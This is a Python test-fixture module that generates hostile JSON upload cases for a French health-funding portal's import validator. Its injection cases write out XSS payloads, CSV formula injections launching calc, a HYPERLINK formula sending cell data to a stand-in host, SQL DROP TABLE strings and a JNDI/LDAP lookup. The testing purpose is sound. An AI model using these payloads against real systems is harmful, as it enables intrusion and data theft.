"""Generates the hostile corpus of the portal, in memory: JSON files of demandes (spec §2–§3) and zips
of pièces jointes (spec §6). Nothing big is committed: each case holds a function that builds its
bytes when the test runs (every zip stays under 5 Mo; the few JSON files near the 20 Mo limit are
built only then too).

Standard library only, so that it also runs alone and writes the corpus to a folder, to replay it by
hand (`manage.py simuler`, the screens) or with another tool:

    .venv/bin/python -m tests.hostile.generer /tmp/corpus-hostile

Each JSON case: a name, its bytes, the form's parameters (type AVANCE, numéro ANS mlp525off1, taux 20
unless the case needs otherwise), the uploaded file name, and — only where the spec leaves no doubt —
the expected outcome: « ok » (simulation without error), « rejet » (file refused as a whole),
« erreurs » (line errors), « pas_ok » (refused or line errors), « formulaire » (the form refuses it,
nothing recorded). Each zip case: a name, its bytes, the uploaded name, and where the spec leaves no
doubt the expected statut (TRAITE / REFUSE) and number of accepted entries.
"""

import codecs
import copy
import functools
import io
import json
import re
import struct
import sys
import warnings
import zipfile
import zlib
from collections.abc import Callable
from dataclasses import dataclass
from pathlib import Path

MODELE = Path(__file__).resolve().parents[2] / "schemas" / "modeles" / "avance-structure-ttc.json"
ANS = "mlp525off1"
SIRET = "77625125800013"
MAX_LIGNES = 10_000  # SEGUR_MAX_LIGNES by default
MAX_JSON = 20 * 1024 * 1024  # SEGUR_MAX_JSON_BYTES by default
MO = 1024 * 1024
TROIS_MO = 3 * MO
SENTINELLE = "\u2063SENTINELLE\u2063"  # replaced by raw bytes after json.dumps


# --- JSON cases -----------------------------------------------------------------------------------


@dataclass(frozen=True)
class CasJson:
    nom: str
    fabrique: Callable[[], bytes]
    type_demande: str = "AVANCE"
    numero_ans: str = ANS
    taux: str = "20"
    nom_fichier: str = "demandes.json"
    attendu: str | None = None  # ok, rejet, erreurs, pas_ok, formulaire — or None: anything French

    def contenu(self) -> bytes:
        return self.fabrique()


def _cle_luhn(debut: str) -> str:
    for cle in "0123456789":
        total = 0
        for rang, caractere in enumerate(reversed(debut + cle)):
            valeur = int(caractere) * (2 if rang % 2 else 1)
            total += valeur - 9 if valeur > 9 else valeur
        if total % 10 == 0:
            return debut + cle
    raise AssertionError(debut)


def finess(n: int) -> str:
    return _cle_luhn(f"03{n:06d}")


def rpps(n: int) -> str:
    return _cle_luhn(f"1{n:09d}")


def courriel(longueur: int) -> str:
    """A valid e-mail address of exactly `longueur` characters (local part 64, labels ≤ 63)."""
    local = "a" * min(64, longueur - 6)
    reste = longueur - len(local) - 1 - 3  # « @ », « .fr »
    labels = []
    while reste > 0:
        if reste <= 63:
            labels.append("b" * reste)
            reste = 0
        else:
            taille = 63 if reste - 64 >= 1 else 60
            labels.append("b" * taille)
            reste -= taille + 1
    adresse = f"{local}@{'.'.join(labels)}.fr"
    assert len(adresse) == longueur, (len(adresse), longueur)
    return adresse


@functools.cache
def _modele() -> bytes:
    return MODELE.read_bytes()


def document_modele() -> dict:
    return json.loads(_modele())


def ligne(n: int = 1, *, editeur: str | None = None) -> dict:
    """A valid avance line (the guide's TTC example), numLigne n, its own numéro éditeur, FINESS
    géographique and bon de commande."""
    resultat = copy.deepcopy(document_modele()["lignesImport"][0])
    editeur = editeur or f"{n:05d}"
    resultat["numLigne"] = n
    resultat["numeroEditeur"] = editeur
    resultat["beneficiaires"]["structure"]["FINESSGeo"] = [finess(n)]
    resultat["piecesJustificatives"] = [
        {"nomFichier": f"MDV-LGC-Va1-BDC-{editeur}.pdf", "formatFichier": "PDF", "typeFichier": "BON_COMMANDE"}
    ]
    return resultat


def en_mandataire(l: dict) -> dict:
    l["beneficiaires"].update(
        isMandataire=True,
        nomMandataire="CABINET CONSEIL",
        emailMandataire="contact@conseil.fr",
        telephoneMandataire="01 23 45 67 89",
    )
    l["piecesJustificatives"].append(
        {"nomFichier": f"MDV-LGC-Va1-MAN-{l['numeroEditeur']}.pdf", "formatFichier": "PDF", "typeFichier": "MANDAT"}
    )
    return l


def en_liberal(l: dict, n: int = 1) -> dict:
    b = l["beneficiaires"]
    b.update(commandePour="LIBERAL", isClientUnique=True)
    b["liberal"] = [
        {
            "nomMedecin": "MARTIN",
            "emailMedecin": "martin@cabinet.fr",
            "telephoneMedecin": "06 12 34 56 78",
            "RPPS": rpps(n),
        }
    ]
    b["structure"] = {
        "nomResponsable": None,
        "emailResponsable": None,
        "telephoneResponsable": None,
        "FINESSJuridique": None,
        "FINESSGeo": [],
    }
    return l


VARIANTES = {"structure": lambda l: l, "mandataire": en_mandataire, "liberal": en_liberal}


def document(*lignes) -> dict:
    resultat = document_modele()
    resultat["lignesImport"] = list(lignes) if lignes else [ligne(1)]
    return resultat


def en_octets(doc, indent: int | None = 2) -> bytes:
    return json.dumps(doc, ensure_ascii=False, indent=indent).encode("utf-8")


def base() -> bytes:
    return en_octets(document())


_ELEMENT = re.compile(r"\[\d+\]|[^.\[\]]+")
CHAMPS_RACINE = ("impId", "numeroAns", "siret", "lignesImport")


def poser(doc: dict, chemin: str, valeur) -> dict:
    """poser(doc, "beneficiaires.structure.FINESSGeo[0]", "…"): in the first line, or at the root
    for numeroAns, siret, impId, lignesImport."""
    elements = [int(e[1:-1]) if e.startswith("[") else e for e in _ELEMENT.findall(chemin)]
    objet = doc if elements[0] in CHAMPS_RACINE else doc["lignesImport"][0]
    for element in elements[:-1]:
        objet = objet[element]
    objet[elements[-1]] = valeur
    return doc


def avec(chemin: str, valeur, variante: str = "structure") -> Callable[[], bytes]:
    def fabrique():
        return en_octets(poser(document(VARIANTES[variante](ligne(1))), chemin, valeur))

    return fabrique


def avec_brut(chemin: str, brut: bytes, variante: str = "structure") -> Callable[[], bytes]:
    """The value written as raw bytes in the file (numbers JSON cannot produce, escapes…)."""

    def fabrique():
        contenu = en_octets(poser(document(VARIANTES[variante](ligne(1))), chemin, SENTINELLE))
        marque = json.dumps(SENTINELLE, ensure_ascii=False).encode()
        assert contenu.count(marque) == 1
        return contenu.replace(marque, brut)

    return fabrique


def remplace(avant: bytes, apres: bytes, source: Callable[[], bytes] = base, compte: int = 1) -> Callable[[], bytes]:
    def fabrique():
        contenu = source()
        assert contenu.count(avant) >= 1, avant
        return contenu.replace(avant, apres, compte)

    return fabrique


def constant(octets: bytes) -> Callable[[], bytes]:
    return lambda: octets


def modifie(action, *lignes_fabriques) -> Callable[[], bytes]:
    def fabrique():
        doc = document(*[f() for f in lignes_fabriques]) if lignes_fabriques else document()
        action(doc)
        return en_octets(doc)

    return fabrique


def sans_cle(chemin: str) -> Callable[[], bytes]:
    def action(doc):
        elements = chemin.split(".")
        objet = doc if elements[0] in CHAMPS_RACINE else doc["lignesImport"][0]
        for element in elements[:-1]:
            objet = objet[element]
        del objet[elements[-1]]

    return modifie(action)


def renomme(chemin: str, nouveau: str) -> Callable[[], bytes]:
    """The key at `chemin` renamed, in place (order kept)."""

    def action(doc):
        elements = chemin.split(".")
        objet = doc if elements[0] in CHAMPS_RACINE else doc["lignesImport"][0]
        for element in elements[:-1]:
            objet = objet[element]
        paires = [(nouveau if k == elements[-1] else k, v) for k, v in objet.items()]
        objet.clear()
        objet.update(paires)

    return modifie(action)


def lignes_valides(nombre: int) -> Callable[[], bytes]:
    """`nombre` valid lines, written fast from one line's compact JSON (10 000 deep copies are slow)."""

    def fabrique():
        modele = ligne(1, editeur="\u2063E\u2063")
        modele["numLigne"] = 999_999_999
        modele["beneficiaires"]["structure"]["FINESSGeo"] = ["\u2063F\u2063"]
        gabarit = json.dumps(modele, ensure_ascii=False)
        lignes = ",".join(
            gabarit.replace("999999999", str(n), 1)
            .replace("\u2063E\u2063", f"{n:05d}")
            .replace("\u2063F\u2063", finess(n))
            for n in range(1, nombre + 1)
        )
        doc = document()
        doc["lignesImport"] = SENTINELLE
        marque = json.dumps(SENTINELLE, ensure_ascii=False)
        return json.dumps(doc, ensure_ascii=False).replace(marque, f"[{lignes}]").encode()

    return fabrique


def _jusqu_a(taille: int, contenu: bytes) -> bytes:
    """The file padded with spaces (between tokens) to exactly `taille` bytes."""
    assert len(contenu) <= taille
    return contenu[:-1] + b" " * (taille - len(contenu)) + contenu[-1:]


# Free-text fields of the file, the variant of the line that makes them stored, the column they go
# to (None: bounded by a rule, a list or ignored) and how to write a value of n characters.
CHAMPS_TEXTE = [
    ("numeroAns", "structure", None, "texte"),
    ("siret", "structure", None, "texte"),
    ("typeAction", "structure", None, "texte"),
    ("numeroASP", "structure", None, "texte"),
    ("numeroEditeur", "structure", None, "texte"),
    ("commande.dateCommande", "structure", None, "texte"),
    ("commande.regimeTVA", "structure", None, "texte"),
    ("beneficiaires.commandePour", "structure", None, "texte"),
    ("beneficiaires.nomMandataire", "mandataire", 200, "nom"),
    ("beneficiaires.emailMandataire", "mandataire", 254, "courriel"),
    ("beneficiaires.telephoneMandataire", "mandataire", None, "texte"),
    ("beneficiaires.liberal[0].nomMedecin", "liberal", 200, "nom"),
    ("beneficiaires.liberal[0].emailMedecin", "liberal", 254, "courriel"),
    ("beneficiaires.liberal[0].telephoneMedecin", "liberal", None, "texte"),
    ("beneficiaires.liberal[0].RPPS", "liberal", None, "texte"),
    ("beneficiaires.structure.nomResponsable", "structure", 200, "nom"),
    ("beneficiaires.structure.emailResponsable", "structure", 254, "courriel"),
    ("beneficiaires.structure.telephoneResponsable", "structure", None, "texte"),
    ("beneficiaires.structure.FINESSJuridique", "structure", None, "texte"),
    ("beneficiaires.structure.FINESSGeo[0]", "structure", None, "texte"),
    ("piecesJustificatives[0].nomFichier", "structure", None, "texte"),
    ("piecesJustificatives[0].formatFichier", "structure", None, "texte"),
    ("piecesJustificatives[0].typeFichier", "structure", None, "texte"),
    ("scenarioInstallation.operateurMessagerie", "structure", None, "texte"),
    ("codeTraitement", "structure", None, "ignore"),
    ("libelleTraitement", "structure", None, "ignore"),
]
LONGUEURS = (200, 201, 255, 256)


def _valeur_de(genre: str, n: int) -> str:
    if genre == "courriel":
        return courriel(n)
    if genre == "nom":
        return "É" * n  # two bytes each in UTF-8: the column counts characters
    return "X" * n


def _attendu_longueur(colonne, genre, n):
    if genre == "ignore":
        return None  # ignored on input: anything French, and the promise if it simulates OK
    if colonne is None:
        return "pas_ok"
    return "ok" if n <= colonne else "pas_ok"


def cas_longueurs():
    for chemin, variante, colonne, genre in CHAMPS_TEXTE:
        for n in LONGUEURS:
            yield CasJson(
                f"longueur-{chemin}-{n}",
                avec(chemin, _valeur_de(genre, n), variante),
                attendu=_attendu_longueur(colonne, genre, n),
            )


def cas_structure():
    coupe = lambda fin: lambda: base()[: fin(base())]  # noqa: E731
    yield CasJson("tronque-apres-accolade", constant(b"{"), attendu="rejet")
    yield CasJson("tronque-au-milieu", coupe(lambda c: len(c) // 2), attendu="rejet")
    yield CasJson("tronque-dernier-octet", coupe(lambda c: len(c.rstrip()) - 1), attendu="rejet")
    yield CasJson("tronque-dans-une-cle", coupe(lambda c: c.index(b'"numeroEdi') + 5), attendu="rejet")
    yield CasJson("tronque-dans-un-nombre", coupe(lambda c: c.index(b"10750.0") + 4), attendu="rejet")
    yield CasJson("tronque-au-milieu-d-un-caractere", _coupe_dans_un_caractere, attendu="rejet")
    yield CasJson("pas-du-json-csv", constant(b"numeroAns;siret\nmlp525off1;77625125800013\n"), attendu="rejet")
    yield CasJson(
        "pas-du-json-xml",
        constant(b'<?xml version="1.0"?><lignesImport><numLigne>1</numLigne></lignesImport>'),
        attendu="rejet",
    )
    yield CasJson("pas-du-json-html", constant(b"<html><body><script>alert(1)</script></body></html>"), attendu="rejet")
    yield CasJson(
        "pas-du-json-pdf", constant(b"%PDF-1.4\n%\xe2\xe3\xcf\xd3\n1 0 obj\n<<>>\nendobj\n%%EOF\n"), attendu="rejet"
    )
    yield CasJson("pas-du-json-zip", constant(zip_de(("demandes.json", base()))), attendu="rejet")
    yield CasJson("pas-du-json-octets-aleatoires", constant(bytes(range(256)) * 16), attendu="rejet")
    yield CasJson("pas-du-json-yaml", constant(b"numeroAns: mlp525off1\nsiret: '77625125800013'\n"), attendu="rejet")
    yield CasJson(
        "json-lines-deux-objets",
        lambda: base().replace(b"\n", b"") + b"\n" + base().replace(b"\n", b""),
        attendu="rejet",
    )
    yield CasJson("commentaires-json5", remplace(b'"impId": null,', b'"impId": null, // commentaire'), attendu="rejet")
    yield CasJson(
        "virgule-finale", remplace(b'"libelleTraitement": null', b'"libelleTraitement": null,'), attendu="rejet"
    )
    yield CasJson("apostrophes-au-lieu-de-guillemets", remplace(b'"siret"', b"'siret'"), attendu="rejet")
    yield CasJson("cle-sans-guillemets", remplace(b'"siret"', b"siret"), attendu="rejet")
    yield CasJson("caractere-de-controle-brut-dans-une-chaine", remplace(b"DURAND", b"DUR\x01AND"), attendu="rejet")
    yield CasJson("nul-brut-entre-les-jetons", remplace(b'"impId": null,', b'"impId": null,\x00'), attendu="rejet")
    yield CasJson("contenu-apres-la-fin", lambda: base() + b"\n{}\n", attendu="rejet")
    for contenu, nom in (
        (b"[]", "racine-tableau-vide"),
        (b"null", "racine-null"),
        (b"42", "racine-nombre"),
        (b'"mlp525off1"', "racine-chaine"),
        (b"true", "racine-booleen"),
        (b"{}", "racine-objet-vide"),
    ):
        yield CasJson(nom, constant(contenu), attendu="rejet")
    yield CasJson("racine-tableau-du-fichier", lambda: b"[" + base() + b"]", attendu="rejet")
    yield CasJson("espaces-seulement", constant(b" \n\t\r\n" * 100), attendu="rejet")
    yield CasJson("fichier-vide", constant(b""), attendu="formulaire")
    yield CasJson("lignesImport-vide", avec("lignesImport", []), attendu="rejet")
    yield CasJson("lignesImport-null", avec("lignesImport", None), attendu="rejet")
    yield CasJson("lignesImport-objet", avec("lignesImport", {}), attendu="rejet")
    yield CasJson("lignesImport-de-chaines", avec("lignesImport", ["1", "2"]), attendu="rejet")
    yield CasJson("lignesImport-de-tableaux-vides", avec("lignesImport", [[]] * 50), attendu="rejet")
    yield CasJson("10001-lignes", lignes_valides(MAX_LIGNES + 1), attendu="rejet")
    yield CasJson("10000-objets-vides", lambda: en_octets(document(*[{}] * MAX_LIGNES), None), attendu="rejet")
    yield CasJson(
        "lignesImport-de-2-millions-de-zeros",
        avec_brut("lignesImport", b"[" + b"0," * 2_000_000 + b"0]"),
        attendu="rejet",
    )
    yield CasJson("1500-lignes-valides", lignes_valides(1500), attendu="ok")
    yield CasJson("imbrication-100000-tableaux", remplace(b'"C"', b"[" * 100_000 + b"]" * 100_000), attendu="rejet")
    yield CasJson(
        "imbrication-50000-objets", remplace(b'"C"', b'{"a":' * 50_000 + b"1" + b"}" * 50_000), attendu="rejet"
    )
    yield CasJson("imbrication-900-tableaux-non-fermes", remplace(b'"C"', b"[" * 900), attendu="rejet")
    # keys: missing, unknown, renamed
    for chemin in ("numeroAns", "siret", "lignesImport", "impId", "numLigne", "commande.montantSegurHT"):
        yield CasJson(f"cle-absente-{chemin}", sans_cle(chemin), attendu="rejet")
    yield CasJson("cle-inconnue-racine", modifie(lambda d: d.update(version=2)), attendu="rejet")
    yield CasJson(
        "cle-inconnue-ligne", modifie(lambda d: d["lignesImport"][0].update(commentaire="x")), attendu="rejet"
    )
    for nom, nouveau in (
        ("nul", "numero\x00Ans"),
        ("controle-bel", "numeroAns\x07"),
        ("echappement-ansi", "\x1b[31mnumeroAns"),
        ("espace-final", "numeroAns "),
        ("espace-insecable", "numeroAns\u00a0"),
        ("espace-de-largeur-nulle", "numero\u200bAns"),
        ("homoglyphe-cyrillique", "numer\u043eAns"),
        ("pleine-chasse", "ｎｕｍｅｒｏＡｎｓ"),
        ("casse", "NumeroAns"),
        ("rtl-override", "\u202enumeroAns"),
        ("bom-dans-la-cle", "\ufeffnumeroAns"),
    ):
        yield CasJson(f"cle-renommee-{nom}", renomme("numeroAns", nouveau), attendu="rejet")
    yield CasJson(
        "cle-renommee-homoglyphe-dans-la-ligne", renomme("numeroEditeur", "numeroEdit\u0435ur"), attendu="rejet"
    )
    yield CasJson("cle-renommee-nul-dans-la-ligne", renomme("commande.regimeTVA", "regime\x00TVA"), attendu="rejet")
    yield CasJson("cle-d-un-mega-octet", modifie(lambda d: d.update({"k" * MO: 1})), attendu="rejet")
    yield CasJson(
        "100000-cles-inconnues",
        modifie(lambda d: d["lignesImport"][0].update({f"cle{n}": n for n in range(100_000)})),
        attendu="rejet",
    )
    # duplicate keys
    yield CasJson(
        "cle-en-double-racine",
        remplace(b'  "siret": "77625125800013",\n', b'  "siret": "77625125800013",\n  "siret": "87950324100017",\n'),
        attendu="rejet",
    )
    yield CasJson(
        "cle-en-double-imbriquee",
        remplace(b'"regimeTVA": "TTC",', b'"regimeTVA": "TTC", "regimeTVA": "HT",'),
        attendu="rejet",
    )
    yield CasJson(
        "cle-en-double-par-echappement",
        remplace(
            b'  "siret": "77625125800013",\n', b'  "siret": "77625125800013",\n  "s\\u0069ret": "87950324100017",\n'
        ),
        attendu="rejet",
    )
    yield CasJson(
        "cle-en-double-lignesImport",
        lambda: base()[:-2] + b', "lignesImport": []\n}\n',
        attendu="rejet",
    )
    yield CasJson("cle-reecrite-echappee-impId", remplace(b'"impId"', b'"\\u0069mpId"'), attendu="rejet")
    yield CasJson(
        "cle-reecrite-echappee-codeTraitement",
        remplace(b'"codeTraitement"', b'"code\\u0054raitement"'),
        attendu="rejet",
    )
    # types
    yield CasJson("impId-chaine", avec("impId", "1"), attendu="rejet")
    yield CasJson("impId-enorme", avec_brut("impId", b"9" * 40))
    yield CasJson("impId-negatif", avec("impId", -1))
    yield CasJson("montant-chaine", avec("commande.montantSegurHT", "10750.00"), attendu="rejet")
    yield CasJson("booleen-en-chaine", avec("beneficiaires.isMandataire", "false"), attendu="rejet")
    yield CasJson("booleen-en-entier", avec("scenarioInstallation.isDirectToDMP", 0), attendu="rejet")
    yield CasJson("FINESSGeo-chaine", avec("beneficiaires.structure.FINESSGeo", finess(1)), attendu="rejet")
    yield CasJson("pieces-null", avec("piecesJustificatives", None), attendu="rejet")
    yield CasJson("ligne-null", avec("lignesImport", [None]), attendu="rejet")


def cas_encodages():
    texte = lambda: base().decode("utf-8").replace("DURAND", "DURAND ÉLOÏSE")  # noqa: E731
    for codec, nom in (
        ("utf-16", "utf16-avec-bom"),
        ("utf-16-le", "utf16-le-sans-bom"),
        ("utf-16-be", "utf16-be-sans-bom"),
        ("utf-32", "utf32-avec-bom"),
        ("utf-32-be", "utf32-be-sans-bom"),
        ("latin-1", "latin1"),
        ("cp1252", "cp1252"),
        ("cp500", "ebcdic"),
        ("gb18030", "gb18030"),
    ):
        yield CasJson(f"encodage-{nom}", (lambda c=codec: texte().encode(c)), attendu="rejet")
    yield CasJson(
        "encodage-utf16-be-avec-bom", lambda: codecs.BOM_UTF16_BE + texte().encode("utf-16-be"), attendu="rejet"
    )
    yield CasJson("encodage-utf16-le-ascii-sans-bom", lambda: base().decode().encode("utf-16-le"), attendu="rejet")
    yield CasJson("encodage-utf16-be-ascii-sans-bom", lambda: base().decode().encode("utf-16-be"), attendu="rejet")
    yield CasJson("bom-utf8", lambda: codecs.BOM_UTF8 + base(), attendu="ok")
    yield CasJson("bom-utf8-double", lambda: codecs.BOM_UTF8 * 2 + base())
    yield CasJson("encodage-utf7", lambda: texte().encode("utf-7"))
    yield CasJson(
        "bom-utf8-au-milieu", remplace(b'"impId": null,', b'"impId": null,' + codecs.BOM_UTF8), attendu="rejet"
    )
    yield CasJson("bom-utf8-puis-utf16", lambda: codecs.BOM_UTF8 + texte().encode("utf-16-le"), attendu="rejet")
    yield CasJson("bom-utf16-puis-utf8", lambda: codecs.BOM_UTF16_LE + base(), attendu="rejet")
    yield CasJson("utf8-surlong-barre", remplace(b"DURAND", b"DUR\xc0\xafAND"), attendu="rejet")
    yield CasJson("utf8-surlong-nul", remplace(b"DURAND", b"DUR\xc0\x80AND"), attendu="rejet")
    yield CasJson("utf8-surlong-trois-octets", remplace(b"DURAND", b"DUR\xe0\x80\xafAND"), attendu="rejet")
    yield CasJson("utf8-surlong-guillemet", remplace(b'"DURAND"', b'"DURAND\xc0\xa2'), attendu="rejet")
    yield CasJson("cesu8-surrogats-encodes", remplace(b"DURAND", b"DUR\xed\xa0\xbd\xed\xb8\x80AND"), attendu="rejet")
    yield CasJson("utf8-au-dela-de-U10FFFF", remplace(b"DURAND", b"DUR\xf4\x90\x80\x80AND"), attendu="rejet")
    yield CasJson("octet-ff", remplace(b"DURAND", b"DUR\xffAND"), attendu="rejet")
    yield CasJson("crlf", lambda: base().replace(b"\n", b"\r\n"), attendu="ok")
    yield CasJson("cr-seuls", lambda: base().replace(b"\n", b"\r"), attendu="ok")
    yield CasJson(
        "surrogat-isole-echappe", avec_brut("beneficiaires.structure.nomResponsable", b'"\\ud800"'), attendu="rejet"
    )
    yield CasJson(
        "surrogat-bas-isole-echappe",
        avec_brut("beneficiaires.structure.nomResponsable", b'"A\\udfffB"'),
        attendu="rejet",
    )
    yield CasJson(
        "paire-de-surrogats-echappee",
        avec_brut("beneficiaires.structure.nomResponsable", b'"\\ud83d\\ude00"'),
        attendu="ok",
    )


def _coupe_dans_un_caractere() -> bytes:
    contenu = base().replace(b"DURAND", "DURAND É".encode())
    return contenu[: contenu.index("É".encode()) + 1]


def _pleine_chasse(chiffres: str) -> str:
    return "".join(chr(0xFF10 + int(c)) for c in chiffres)


def _arabes(chiffres: str) -> str:
    return "".join(chr(0x0660 + int(c)) for c in chiffres)


def cas_valeurs():
    nom = "beneficiaires.structure.nomResponsable"
    # NUL
    yield CasJson("nul-echappe-nomResponsable", avec(nom, "DUR\x00AND"), attendu="rejet")
    yield CasJson("nul-echappe-numeroEditeur", avec("numeroEditeur", "00\x0001"), attendu="rejet")
    yield CasJson(
        "nul-echappe-nomFichier",
        avec("piecesJustificatives[0].nomFichier", "MDV-LGC-Va1-BDC-00001.pdf\x00.exe"),
        attendu="rejet",
    )
    yield CasJson("nul-echappe-libelleTraitement", avec("libelleTraitement", "\x00"), attendu="rejet")
    yield CasJson(
        "nul-echappe-FINESSGeo", avec("beneficiaires.structure.FINESSGeo[0]", "03000\x00001"), attendu="rejet"
    )
    yield CasJson("nul-echappe-dateCommande", avec("commande.dateCommande", "24/11/2021\x00"), attendu="rejet")
    yield CasJson(
        "nul-echappe-nomMedecin", avec("beneficiaires.liberal[0].nomMedecin", "\x00", "liberal"), attendu="rejet"
    )
    yield CasJson("nuls-partout-100000", avec(nom, "\x00" * 100_000), attendu="rejet")
    # characters
    yield CasJson("emoji-200", avec(nom, "😀" * 200), attendu="ok")
    yield CasJson("emoji-201", avec(nom, "😀" * 201), attendu="pas_ok")
    yield CasJson("emoji-drapeaux-et-zwj-200", avec(nom, ("👨\u200d👩\u200d👧" * 40)[:200]), attendu="ok")
    yield CasJson("combinants-200", avec(nom, "e\u0301" * 100), attendu="ok")
    yield CasJson("zalgo-200", avec(nom, ("Z" + "\u0336\u0337\u0338\u0489") * 40), attendu="ok")
    yield CasJson("plan-astral-mathematique", avec(nom, "𝔇𝔘ℜ𝔄𝔑𝔇"), attendu="ok")
    yield CasJson("rtl-override-nomResponsable", avec(nom, "\u202eDNARUD"), attendu="ok")
    yield CasJson("rtl-override-numeroEditeur", avec("numeroEditeur", "0\u202e0001"), attendu="pas_ok")
    yield CasJson(
        "bidi-isolats-nomMandataire",
        avec("beneficiaires.nomMandataire", "\u2067CABINET\u2069", "mandataire"),
        attendu="ok",
    )
    yield CasJson("espaces-seulement-nomResponsable", avec(nom, "   \t  "))
    yield CasJson("espaces-insecables-nomResponsable", avec(nom, "\u00a0\u2007\u202f"))
    yield CasJson("chaine-vide-nomResponsable", avec(nom, ""), attendu="pas_ok")
    yield CasJson("retours-a-la-ligne-nomResponsable", avec(nom, "DURAND\r\nSet-Cookie: x=1"))
    yield CasJson("chaine-de-5-mo", avec(nom, "A" * (5 * MO)), attendu="pas_ok")
    yield CasJson("caractere-de-remplacement", avec(nom, "\ufffd\ufffe\uffff"))
    yield CasJson("caracteres-non-attribues-et-prives", avec(nom, "\U0010ffff\ue000\U000e0001"))
    yield CasJson(
        "telephone-suivi-de-40-espaces",
        avec("beneficiaires.structure.telephoneResponsable", "0645124512" + " " * 40),
        attendu="pas_ok",
    )
    yield CasJson("telephone-chiffres-arabes", avec("beneficiaires.structure.telephoneResponsable", "٠٦٤٥١٢٤٥١٢"))
    yield CasJson(
        "courriel-254-unicode", avec("beneficiaires.structure.emailResponsable", "é" * 60 + "@" + "ü" * 60 + ".fr")
    )
    yield CasJson("courriel-idn-homoglyphe", avec("beneficiaires.structure.emailResponsable", "durand@mаil.com"))
    yield CasJson(
        "FINESS-chiffres-pleine-chasse", avec("beneficiaires.structure.FINESSGeo[0]", _pleine_chasse(finess(1)))
    )
    yield CasJson("RPPS-chiffres-arabes", avec("beneficiaires.liberal[0].RPPS", _arabes(rpps(1)), "liberal"))
    # numbers
    montant = "commande.montantSegurHT"
    for nom_cas, brut, attendu in (
        ("montant-10750-point", b"10750.", "rejet"),
        ("montant-10750-point-5000-zeros", b"10750." + b"0" * 5000, "rejet"),
        ("montant-10750-point-16384-zeros", b"10750." + b"0" * 16_384, "rejet"),
        ("montant-10750-point-34-zeros-40-caracteres", b"10750." + b"0" * 34, "ok"),
        ("montant-1e309", b"1e309", "pas_ok"),
        ("montant-moins-1e309", b"-1e309", "pas_ok"),
        ("montant-1e-400", b"1e-400", "pas_ok"),
        ("montant-1E2", b"1E2", None),
        ("montant-1.0750e4", b"1.0750e4", None),
        ("montant-zero", b"0", "erreurs"),
        ("montant-moins-zero", b"-0.0", "erreurs"),
        ("montant-negatif", b"-10750.00", "erreurs"),
        ("montant-trois-decimales", b"10750.001", "erreurs"),
        ("montant-au-plafond-de-la-colonne", b"9999999999.99", "erreurs"),
        ("montant-au-dela-de-la-colonne", b"99999999999.99", "erreurs"),
        ("montant-40-chiffres", b"9" * 40, "erreurs"),
        ("montant-41-chiffres", b"9" * 41, "rejet"),
        ("montant-1-mo-de-chiffres", b"1" * MO, "rejet"),
        ("montant-hexadecimal", b"0x2A00", "rejet"),
        ("montant-zeros-en-tete", b"010750", "rejet"),
        ("montant-plus", b"+10750", "rejet"),
        ("montant-point-initial", b".5", "rejet"),
        ("montant-NaN", b"NaN", "rejet"),
        ("montant-Infinity", b"Infinity", "rejet"),
        ("montant-un-centime", b"0.01", "ok"),
        ("montant-au-plafond-de-la-solution", b"12000.00", "ok"),
        ("montant-au-dessus-du-plafond", b"12000.01", "erreurs"),
        ("montant-chiffres-arabes", '"١٠٧٥٠"'.encode(), "rejet"),
    ):
        yield CasJson(nom_cas, avec_brut(montant, brut), attendu=attendu)
    for nom_cas, brut, attendu in (
        ("numLigne-2147483647", b"2147483647", "ok"),
        ("numLigne-2147483648", b"2147483648", "erreurs"),
        ("numLigne-10-puissance-39", b"1" + b"0" * 39, "erreurs"),
        ("numLigne-5000-chiffres", b"1" + b"0" * 5000, "rejet"),
        ("numLigne-zero", b"0", "erreurs"),
        ("numLigne-negatif", b"-1", "erreurs"),
        ("numLigne-moins-2147483649", b"-2147483649", "erreurs"),
        ("numLigne-decimal", b"1.5", "rejet"),
        ("numLigne-1.0", b"1.0", None),
        ("numLigne-1e0", b"1e0", None),
        ("numLigne-1e2", b"1e2", None),
        ("numLigne-1e400", b"1e400", None),
        ("numLigne-chaine", b'"1"', "rejet"),
        ("numLigne-booleen", b"true", "rejet"),
    ):
        yield CasJson(nom_cas, avec_brut("numLigne", brut), attendu=attendu)
    # dates
    date = "commande.dateCommande"
    for nom_cas, valeur, attendu in (
        ("date-31-fevrier", "31/02/2022", "erreurs"),
        ("date-29-fevrier-non-bissextile", "29/02/2023", "erreurs"),
        ("date-29-fevrier-bissextile", "29/02/2024", "ok"),
        ("date-zeros", "00/00/0000", "erreurs"),
        ("date-an-9999", "31/12/9999", "erreurs"),
        ("date-an-10000", "01/01/10000", "erreurs"),
        ("date-an-1", "01/01/0001", "erreurs"),
        ("date-iso", "2021-11-24", "erreurs"),
        ("date-annee-sur-deux-chiffres", "24/11/21", "erreurs"),
        ("date-espace-final", "24/11/2021 ", None),
        ("date-chiffres-arabes", "٢٤/١١/٢٠٢١", None),
        ("date-chiffres-pleine-chasse", "２４/１１/２０２１", None),
        ("date-chiffres-devanagari", "२४/११/२०२१", None),
        ("date-vide", "", "erreurs"),
        ("date-mois-13", "24/13/2021", "erreurs"),
        ("date-signe", "+4/11/2021", None),
    ):
        yield CasJson(nom_cas, avec(date, valeur), attendu=attendu)
    yield CasJson("date-nombre", avec(date, 24112021), attendu="rejet")


# Markers the pages must never show unescaped (checked by the test on every page it reads).
MARQUEURS_XSS = ("<script>alert(1)</script>", "<img src=x onerror=alert(1)>", "<svg/onload=alert(1)>")


def cas_injections():
    nom = "beneficiaires.structure.nomResponsable"
    for nom_cas, valeur in (
        ("html-script", MARQUEURS_XSS[0]),
        ("html-img-onerror", MARQUEURS_XSS[1]),
        ("html-svg-onload", MARQUEURS_XSS[2]),
        ("html-attribut", '" onmouseover="alert(1)'),
        ("csv-egal-somme", "=SUM(A1:A9)"),
        ("csv-plus", "+33 6 12 34 56 78"),
        ("csv-moins", "-2+3+cmd|' /C calc'!A0"),
        ("csv-arobase", "@SUM(1+1)*cmd|' /C calc'!A0"),
        ("csv-hyperlien", '=HYPERLINK("http://exemple.invalid/?x="&A1,"clic")'),
        ("csv-tabulation", "\t=1+1"),
        ("sql-apostrophe", "O'Brien'); DROP TABLE demandes_demande;--"),
        ("sql-guillemets", '" OR ""="'),
        ("sql-commentaire", "DURAND'/**/OR/**/1=1--"),
        ("gabarit-django", "{{ request.user.password }}{% debug %}"),
        ("gabarit-jinja", "${7*7}{{7*7}}"),
        ("format-python", "%s%s%s%n{0}{__class__}"),
        ("ldap-et-jndi", "${jndi:ldap://exemple.invalid/a}"),
    ):
        yield CasJson(f"injection-{nom_cas}", avec(nom, valeur), attendu="ok")
